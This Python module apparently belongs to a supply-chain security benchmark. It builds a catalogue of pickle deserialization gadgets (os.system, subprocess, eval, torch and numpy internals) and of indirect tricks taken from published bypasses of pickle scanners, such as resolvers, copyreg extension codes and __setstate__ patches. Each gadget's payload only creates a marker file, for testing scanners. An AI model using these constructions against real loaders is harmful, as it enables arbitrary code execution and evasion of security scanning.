"""Functions that a pickle can call to do harm, each with a harmless payload: it makes a file (or folder) at ``marker``.

The names are known from published bypasses of pickle scanners and from reading the standard library; whether each fires
is not believed but tried (`victim`).
"""

# ruff: noqa: E501 - one attack a line

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

from bartizan.bench.supplychain import assembler as asm
from bartizan.bench.supplychain.assembler import Raw, built, call, made, name, text, value, whole


class Gadget(NamedTuple):
    """Opcodes that fire when they are followed."""

    id: str
    body: Callable[[str], bytes]
    """Marker to opcodes."""
    needs: str = ""
    """Package that must be installed where it is loaded."""


def _source(marker: str) -> str:
    return f"open({marker!r},'w').close()"


def _shell(marker: str) -> str:
    return f"touch {marker}"


_CALLS: tuple[tuple[str, str, Callable[[str], tuple[Any, ...]], str], ...] = (
    ("builtins", "eval", lambda m: (_source(m),), ""),
    ("builtins", "exec", lambda m: (_source(m),), ""),
    ("builtins", "open", lambda m: (m, "w"), ""),
    ("os", "system", lambda m: (_shell(m),), ""),
    ("posix", "system", lambda m: (_shell(m),), ""),
    ("os", "popen", lambda m: (_shell(m),), ""),
    ("os", "spawnv", lambda m: (0, "/usr/bin/touch", ["touch", m]), ""),
    ("os", "spawnlp", lambda m: (0, "touch", "touch", m), ""),
    ("os", "posix_spawn", lambda m: ("/usr/bin/touch", ["touch", m], {}), ""),
    ("posix", "posix_spawn", lambda m: ("/usr/bin/touch", ["touch", m], {}), ""),
    ("os", "execv", lambda m: ("/usr/bin/touch", ["touch", m]), ""),
    ("os", "mkdir", lambda m: (m,), ""),
    ("os", "makedirs", lambda m: (m,), ""),
    ("os", "mknod", lambda m: (m,), ""),
    ("os", "symlink", lambda m: ("/dev/null", m), ""),
    ("os", "open", lambda m: (m, 65), ""),
    ("subprocess", "call", lambda m: (["touch", m],), ""),
    ("subprocess", "check_call", lambda m: (["touch", m],), ""),
    ("subprocess", "check_output", lambda m: (["touch", m],), ""),
    ("subprocess", "run", lambda m: (["touch", m],), ""),
    ("subprocess", "Popen", lambda m: (["touch", m],), ""),
    ("subprocess", "getoutput", lambda m: (_shell(m),), ""),
    ("subprocess", "getstatusoutput", lambda m: (_shell(m),), ""),
    ("pty", "spawn", lambda m: (["touch", m],), ""),
    ("timeit", "timeit", lambda m: ("0", _source(m), Raw(name("time", "perf_counter")), 1), ""),
    ("timeit", "repeat", lambda m: ("0", _source(m), Raw(name("time", "perf_counter")), 1, 1), ""),
    ("cProfile", "run", lambda m: (_source(m),), ""),
    ("profile", "run", lambda m: (_source(m),), ""),
    ("cProfile", "runctx", lambda m: (_source(m), {}, {}), ""),
    ("io", "open", lambda m: (m, "w"), ""),
    ("_io", "open", lambda m: (m, "w"), ""),
    ("io", "FileIO", lambda m: (m, "w"), ""),
    ("_io", "FileIO", lambda m: (m, "w"), ""),
    ("codecs", "open", lambda m: (m, "w"), ""),
    ("gzip", "open", lambda m: (m, "w"), ""),
    ("bz2", "open", lambda m: (m, "w"), ""),
    ("lzma", "open", lambda m: (m, "w"), ""),
    ("tarfile", "open", lambda m: (m, "w"), ""),
    ("zipfile", "ZipFile", lambda m: (m, "w"), ""),
    ("sqlite3", "connect", lambda m: (m,), ""),
    ("dbm.dumb", "open", lambda m: (m, "c"), ""),
    ("shutil", "copy", lambda m: ("/etc/hostname", m), ""),
    ("shutil", "copyfile", lambda m: ("/etc/hostname", m), ""),
    ("shutil", "copytree", lambda m: ("/etc/ssl/certs/..", m), ""),
    ("logging", "FileHandler", lambda m: (m,), ""),
    ("logging.handlers", "RotatingFileHandler", lambda m: (m,), ""),
    ("logging.config", "dictConfig", lambda m: ({"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": m}}, "root": {"handlers": ["h"]}},), ""),
    ("multiprocessing.util", "spawnv_passfds", lambda m: (b"/usr/bin/touch", [b"touch", m.encode()], ()), ""),
    ("distutils.spawn", "spawn", lambda m: (["touch", m],), ""),
    ("distutils.file_util", "write_file", lambda m: (m, []), ""),
    ("distutils.dir_util", "mkpath", lambda m: (m,), ""),
    ("pydoc", "pipepager", lambda m: ("", _shell(m)), ""),
    ("imaplib", "IMAP4_stream", lambda m: (_shell(m),), ""),
    ("test.support.script_helper", "run_python_until_end", lambda m: ("-c", _source(m)), ""),
    ("numpy", "savetxt", lambda m: (m, []), "numpy"),
    ("numpy", "memmap", lambda m: (m, "u1", "w+", 0, (1,)), "numpy"),
    ("numpy", "save", lambda m: (m, 1), "numpy"),
    ("numpy.testing._private.utils", "runstring", lambda m: (_source(m), {}), "numpy"),
    ("numpy.f2py.crackfortran", "myeval", lambda m: (_source(m),), "numpy"),
    ("numpy.lib._npyio_impl", "savez", lambda m: (m,), "numpy"),
    ("joblib.numpy_pickle", "dump", lambda m: (1, m), "joblib"),
    ("pandas", "to_pickle", lambda m: (1, m), "pandas"),
    ("pandas.io.common", "get_handle", lambda m: (m, "w"), "pandas"),
    ("torch", "save", lambda m: (1, m), "torch"),
    ("torch.utils.collect_env", "run", lambda m: (_shell(m),), "torch"),
    ("torch.fx.graph_module", "_exec_with_source", lambda m: (_source(m), {}), "torch"),
)  # fmt: skip


def gadgets() -> Iterator[Gadget]:
    """All of them."""
    for module, attribute, arguments, needs in _CALLS:
        yield Gadget(
            f"{module}.{attribute}",
            lambda m, module=module, attribute=attribute, arguments=arguments: call(module, attribute, arguments(m)),  # type: ignore[misc]
            needs,
        )
    yield from _indirect()


def _indirect() -> Iterator[Gadget]:
    def apply(function: bytes, *arguments: Any) -> Raw:
        return Raw(function + value(tuple(arguments)) + b"R")

    def of(identifier: str, body: Callable[[str], bytes], needs: str = "") -> Gadget:
        return Gadget(identifier, body, needs)

    system = name("os", "system")
    yield of("nested.pickle.loads", lambda m: call("pickle", "loads", (whole(call("os", "system", (_shell(m),))),)))
    yield of("nested._pickle.loads", lambda m: call("_pickle", "loads", (whole(call("os", "system", (_shell(m),))),)))
    yield of("resolver.pydoc.locate", lambda m: apply(call("pydoc", "locate", ("os.system",)), _shell(m)))
    yield of(
        "resolver.pkgutil.resolve_name", lambda m: apply(call("pkgutil", "resolve_name", ("os:system",)), _shell(m))
    )
    yield of(
        "resolver.getattr",
        lambda m: apply(
            call("builtins", "getattr", (call("importlib", "import_module", ("os",)), "system")), _shell(m)
        ),
    )
    yield of(
        "resolver.attrgetter",
        lambda m: apply(
            apply(call("operator", "attrgetter", ("system",)), call("builtins", "__import__", ("os",))), _shell(m)
        ),
    )
    yield of(
        "resolver.methodcaller",
        lambda m: apply(
            call("operator", "methodcaller", ("system", _shell(m))), call("builtins", "__import__", ("os",))
        ),
    )
    yield of("partial", lambda m: apply(call("functools", "partial", (Raw(system), _shell(m)))))
    yield of("map", lambda m: call("builtins", "list", (call("builtins", "map", (Raw(system), [_shell(m)])),)))
    yield of("filter", lambda m: call("builtins", "list", (call("builtins", "filter", (Raw(system), [_shell(m)])),)))
    yield of("reduce", lambda m: call("functools", "reduce", (Raw(name("shutil", "copy")), ["/etc/hostname", m])))
    yield of("reduce.symlink", lambda m: call("functools", "reduce", (Raw(name("os", "symlink")), ["/dev/null", m])))
    yield of(
        "starmap", lambda m: call("builtins", "list", (call("itertools", "starmap", (Raw(system), [(_shell(m),)])),))
    )
    for module, attribute in (
        ("logging", "os.system"), ("shutil", "os.system"), ("inspect", "os.system"), ("tempfile", "_os.system"),
        ("random", "_os.system"), ("glob", "os.system"), ("numpy", "ma.core.builtins.eval"), ("platform", "os.system"),
    ):  # fmt: skip
        argument = _source if attribute.endswith("eval") else _shell
        yield of(
            f"dotted.{module}.{attribute}",
            lambda m, module=module, attribute=attribute, argument=argument: call(module, attribute, (argument(m),)),  # type: ignore[misc]
            "numpy" if module == "numpy" else "",
        )
    yield of(
        "dotted.pathlib.Path.touch", lambda m: call("pathlib", "Path.touch", (call("pathlib", "PosixPath", (m,)),))
    )
    yield of(
        "dotted.pathlib.Path.write_text",
        lambda m: call("pathlib", "Path.write_text", (call("pathlib", "PosixPath", (m,)), "x")),
    )
    for code, opcode in ((7, b"\x82\x07"), (300, b"\x83\x2c\x01"), (70_000, b"\x84\x70\x11\x01\x00")):
        yield of(
            f"extension.{code}",
            lambda m, code=code, opcode=opcode: (
                call("copyreg", "add_extension", ("os", "system", code)) + b"0" + opcode + value((_shell(m),)) + b"R"
            ),  # type: ignore[misc]
        )
    yield of(
        "state.__setstate__",
        lambda m: built(built(made("argparse", "Namespace"), {"__setstate__": Raw(system)}), _shell(m)),
    )
    yield of(
        "state.append",
        lambda m: built(made("argparse", "Namespace"), {"append": Raw(system)}) + text(_shell(m)) + b"a",
    )
    yield of(
        "class.patch",
        lambda m: (
            name("argparse", "Namespace")
            + value((None, {"__setstate__": Raw(system)}))
            + b"b0"
            + made("argparse", "Namespace")
            + text(_shell(m))
            + b"b"
        ),
    )
    yield of(
        "marshal.function",
        lambda m: apply(call("types", "FunctionType", (call("builtins", "compile", (_source(m), "x", "exec")), {}))),
    )
    yield of(
        "code.InteractiveInterpreter",
        lambda m: apply(
            call("builtins", "getattr", (call("code", "InteractiveInterpreter", ()), "runsource")), _source(m)
        ),
    )
    yield of("new.memmap", lambda m: made("numpy", "memmap", (m, "u1", "w+", 0, (1,))), "numpy")
    yield of(
        "rv_frozen.template",
        lambda m: built(
            made("scipy.stats._continuous_distns", "norm_gen"),
            {
                "_parse_arg_template": f"{_source(m)}\n_parse_args=_parse_args_stats=_parse_args_rvs=None\n",
                "shapes": None,
            },
        ),
        "scipy",
    )
    yield of(
        "ufunc.import", lambda m: apply(call("numpy._core", "_ufunc_reconstruct", ("os", "system")), _shell(m)), "numpy"
    )
    yield of("bitgen", lambda m: call("numpy.random._pickle", "__randomstate_ctor", (_shell(m), Raw(system))), "numpy")
    yield of(
        "defaultdict.factory",
        lambda m: (
            call(
                "builtins",
                "getattr",
                (
                    call("collections", "defaultdict", (call("functools", "partial", (Raw(system), _shell(m))),)),
                    "__missing__",
                ),
            )
            + value(("x",))
            + b"R"
        ),
    )
    yield of(
        "reconstructor",
        lambda m: call(
            "copyreg", "_reconstructor", (Raw(name("logging", "FileHandler")), Raw(name("logging", "FileHandler")), m)
        ),
    )
    yield of(
        "storage.nested",
        lambda m: call("torch.storage", "_load_from_bytes", (whole(call("os", "system", (_shell(m),))),)),
        "torch",
    )
    yield of(
        "from_type",
        lambda m: call(
            "torch._tensor", "_rebuild_from_type_v2", (Raw(system), Raw(name("torch", "Tensor")), (_shell(m),), {})
        ),
        "torch",
    )


__all__ = ["Gadget", "asm", "gadgets"]
